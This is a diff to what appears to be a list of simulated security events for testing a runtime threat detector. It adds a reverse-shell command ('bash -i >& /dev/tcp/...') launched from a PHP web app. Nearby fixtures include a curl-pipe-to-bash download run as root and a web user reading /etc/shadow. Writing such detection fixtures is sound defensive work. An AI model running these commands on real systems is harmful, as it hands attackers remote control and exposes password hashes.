@@ -117,6 +117,8 @@ S = [
         cgroup="/system.slice/actions-runner.service")),
     ("curl-pipe-bash-as-root", "web", "web-3", "exec", dict(pid=5005, ppid=5004, uid=0, gid=0, comm="bash", parent_comm="sudo",
         exe="/usr/bin/bash", argv=["bash", "-c", "curl -fsSL http://203.0.113.7/x.sh | bash"], cwd="/tmp")),
+    ("reverse-shell-from-web-app", "web", "web-3", "exec", dict(pid=5008, ppid=5007, uid=33, gid=33, comm="bash", parent_comm="php-fpm8.2",
+        exe="/usr/bin/bash", argv=["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"], cwd="/var/www/app")),
     ("reverse-shell-connect", "web", "web-3", "connect", dict(pid=5006, uid=33, comm="bash", parent_comm="php-fpm8.2",
         remote_ip="203.0.113.7", remote_port=4444, local_port=51544, protocol="tcp")),
     ("shadow-read-by-web-user", "web", "web-3", "open", dict(pid=5007, uid=33, comm="cat", parent_comm="bash", path="/etc/shadow", flags=0)),
